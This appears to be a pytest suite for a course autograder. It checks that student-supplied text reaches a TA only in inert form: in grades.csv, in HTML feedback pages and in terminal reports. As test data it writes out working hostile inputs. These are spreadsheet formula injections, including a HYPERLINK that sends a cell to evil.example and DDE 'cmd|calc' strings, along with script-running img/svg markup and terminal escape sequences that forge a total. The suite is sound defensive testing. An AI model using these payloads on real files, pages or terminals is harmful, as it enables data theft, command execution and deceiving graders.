"""Student text reaching a TA is shown, never obeyed: grades.csv in a spreadsheet, the pages in a browser,
the terminal report of `pa3 grade` and `pa3 check`."""

from __future__ import annotations

import csv
import html
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from grader import REFERENCE_DIR, TEMPLATE_DIR
from grader.batch.run import run_batch
from grader.options import BatchOptions, GradeOptions
from grader.render import inert
from tests import corpus

pytestmark = pytest.mark.slow
OPTIONS = BatchOptions(GradeOptions(notebook=False), timeout=300)
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
STUDENT_COLUMNS = ("id", "names", "emails", "message")
PWNED = "PWNED-by-a-submission"
# Markup that runs a script when a page does not escape it (no "/": it must fit in a folder name too).
SCRIPTED = f"<img src=x onerror=\"document.title='{PWNED}'\"><svg onload=\"document.title='{PWNED}'\">"
# What clears a terminal, moves its cursor, retitles the window, colours with a one-byte CSI, reverses the
# line (bidi override) and draws a forged total over the real one.
ESCAPES = "\x1b[2J\x1b[H\x1b]0;owned\x07\x9b31m\u202eTOTAL 148 of 148\u202c\r\x08\x7f\u2066"
RELU = "return np.maximum(Z, 0.0)"
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def chromium_dom(page: Path) -> str:
    """The page's DOM after Chromium loaded it and ran what it allowed to run."""
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    if browser is None:
        pytest.skip("chromium is not installed (Debian: apt-get install chromium; setup.sh installs it as root)")
    done = subprocess.run([browser, "--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=3000",
                           "--dump-dom", page.as_uri()], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0 and "<html" in done.stdout, done.stderr[-2000:]
    return done.stdout


def title_of(dom: str) -> str:
    found = re.search(r"<title>(.*?)</title>", dom, re.S)
    return found.group(1) if found else ""


def hostile_class(folder: Path) -> Path:
    """A class whose folder names are formulas and markup, one of them raising markup in its exception."""
    folder.mkdir(parents=True)
    corpus.build(folder / '=HYPERLINK("http:evil.example?d="&B2,"open me")')
    for name in ("@SUM(1+1)*cmd|' -c calc'!A0", "-2+3", "+cmd", "\t=1+1", " =1+1", "\uff1d1+1", SCRIPTED):
        shutil.copytree(TEMPLATE_DIR, folder / name)
    # Markup in an exception text (feedback page) and in a line that does not compile (the summary's "why").
    numpy = "import numpy as np\n"
    corpus.build(folder / "markup", {"activations.py": [(RELU, f"raise ValueError({SCRIPTED!r})")],
                                     "loss.py": [(numpy, f"{numpy}x = {SCRIPTED!r} +\n")]})
    return folder


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory) -> Path:
    source = hostile_class(tmp_path_factory.mktemp("hostile-class") / "in")
    out = tmp_path_factory.mktemp("hostile-class-out")
    run_batch(source, out, workers=2, options=OPTIONS, show_progress=False)
    return out


def assert_inert_csv(path: Path) -> list[dict]:
    with open(path, newline="") as f:
        rows = list(csv.DictReader(f))
    for row in rows:
        for column in STUDENT_COLUMNS:
            cell = row[column]
            assert not cell.startswith(FORMULA) and not cell.lstrip().startswith(FORMULA), (column, cell)
        for column in ("section_1.1", "section_1.2", "section_2", "total", "max_total"):
            float(row[column])  # the grader's own numbers stay numbers
    return rows


def test_grades_csv_has_no_student_cell_that_starts_a_formula(graded_class):
    rows = {r["names"]: r for r in assert_inert_csv(graded_class / "grades.csv")}
    hyperlink = "'" + '=HYPERLINK("http:evil.example?d="&B2,"open me")'
    assert rows[hyperlink]["total"] == "104" and rows[hyperlink]["status"] == "graded"  # shown as written, graded
    for name in ("@SUM(1+1)*cmd|' -c calc'!A0", "-2+3", "+cmd", "\t=1+1", " =1+1", "\uff1d1+1"):
        assert rows["'" + name]["total"] == "0"
    assert rows[SCRIPTED]["status"] == "graded"  # not a formula: left as it is


def test_gradescope_names_and_emails_that_are_formulas_stay_text(tmp_path):
    folder = tmp_path / "export"
    shutil.copytree(TEMPLATE_DIR, folder / "submission_1")
    name = '=HYPERLINK("https://evil.example/?g="&F2, "Alice")'
    (folder / "submission_metadata.yml").write_text(json.dumps(  # JSON is YAML
        {"submission_1": {":submitters": [{":name": name, ":email": "@cmd|'/c calc'!A0"},
                                          {":name": "Bob", ":email": "-1+1@example.edu"}]}}))
    run_batch(folder, tmp_path / "out", workers=1, options=OPTIONS, show_progress=False)
    (row,) = assert_inert_csv(tmp_path / "out" / "grades.csv")
    assert row["names"] == f"'{name}; Bob" and row["emails"] == "'@cmd|'/c calc'!A0; -1+1@example.edu"


def test_summary_and_feedback_pages_run_no_script_from_a_submission(graded_class, tmp_path):
    pages = [graded_class / "summary.html", *sorted((graded_class / "feedback").glob("*.html"))]
    assert len(pages) == 10
    # the markup is there, as text (in a message under "Needs a human")
    assert html.escape("<img src=x onerror=") in (graded_class / "summary.html").read_text()
    for page in pages:
        text = page.read_text()
        assert inert.CSP_META in text, page
        expected = title_of(text)
        dom = chromium_dom(page)
        assert title_of(dom) == expected != PWNED, page
    # The browser here does run such markup when nothing stops it: the same page, unescaped and without the policy.
    bare = tmp_path / "bare.html"
    bare.write_text(f"<!doctype html><html><head><title>t</title></head><body>{SCRIPTED}</body></html>")
    assert title_of(chromium_dom(bare)) == PWNED


def test_the_executed_notebook_page_runs_no_script_from_the_notebook(tmp_path):
    """nbconvert keeps a markdown cell's raw HTML and a cell's HTML output: the page's policy stops their scripts."""
    import nbformat

    from grader.notebook.keep import keep

    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell(f"# Results\n\n{SCRIPTED}\n\n<script>document.title='{PWNED}'</script>"),
                nbformat.v4.new_code_cell("display(HTML(...))", outputs=[nbformat.v4.new_output(
                    "display_data", {"text/html": f"<script>document.title='{PWNED}'</script>"})])]
    assert keep(nb, tmp_path) == []
    page = tmp_path / "PA3.executed.html"
    dom = chromium_dom(page)
    assert "Content-Security-Policy" in page.read_text() and "Results" in dom
    assert title_of(dom) == title_of(page.read_text()) != PWNED
    unprotected = tmp_path / "unprotected.html"  # the same page without its policy does run them
    unprotected.write_text(re.sub(r"<meta http-equiv=.Content-Security-Policy.[^>]*>", "", page.read_text()))
    assert title_of(chromium_dom(unprotected)) == PWNED


def escaping_submission(dest: Path) -> Path:
    """Escape sequences in an exception text, a misnamed file's name (near enough to be named as layers.py)
    and, raw, in a line that does not compile (its text is quoted in the message)."""
    return corpus.build(dest, {"activations.py": [(RELU, f"raise ValueError({ESCAPES!r})")],
                               "loss.py": [("import numpy as np\n",
                                            f"import numpy as np\nx = '{ESCAPES.replace(chr(13), '')}' +\n")]},
                        drop=("layers.py",), extra={"layers\x1b[2J.py": (REFERENCE_DIR / "layers.py").read_text()})


@pytest.mark.parametrize("command", ["grade", "check"])
def test_the_terminal_report_carries_no_control_character_from_a_submission(command, tmp_path):
    folder = escaping_submission(tmp_path / "esc")
    argv = [sys.executable, "-m", "grader.cli", command, str(folder)]
    argv += ["--no-notebook", "--results", str(tmp_path / "results.json")] if command == "grade" else []
    env = dict(os.environ, COLUMNS="200", FORCE_COLOR="1", TERM="xterm-256color")  # a real terminal's report
    done = subprocess.run(argv, capture_output=True, timeout=600, env=env, cwd=tmp_path)
    stdout, stderr = done.stdout.decode("utf-8"), done.stderr.decode("utf-8")
    assert done.returncode in (0, 1), stderr[-3000:]
    # rich's own colours are ESC sequences too: strip exactly those (SGR), then nothing else may be left.
    plain = re.sub(r"\x1b\[[0-9;]*m", "", stdout)
    assert not CONTROL.findall(plain) and not CONTROL.findall(stderr), repr(CONTROL.findall(plain + stderr)[:5])
    assert "\\x1b[2J" in plain and "\\u202e" in plain  # shown, visibly, for the TA
    assert "layers\\x1b[2J" in plain  # the misnamed file is named, inert


def test_terminal_text_keeps_ordinary_text_and_shows_every_control():
    assert inert.terminal_text("é ü 漢字 \t tab\nnew line\r\n") == "é ü 漢字 \t tab\nnew line\n"
    shown = inert.terminal_text(ESCAPES)
    assert not CONTROL.findall(shown) and shown.startswith("\\x1b[2J\\x1b[H\\x1b]0;owned\\x07\\x9b31m\\u202e")


def test_csv_cell_quotes_only_what_a_spreadsheet_would_run():
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "  =1", "\n=1", "\uff1d1", "\u00a0=1"):
        assert inert.csv_cell(text) == "'" + text
    assert inert.csv_cell("\r=1") == "\\x0d=1" and inert.csv_cell("\x1b[2J=1") == "\\x1b[2J=1"  # shown, inert
    for text in ("Ada Lovelace", "a=b", "1-2", "", "ada@example.edu"):
        assert inert.csv_cell(text) == text
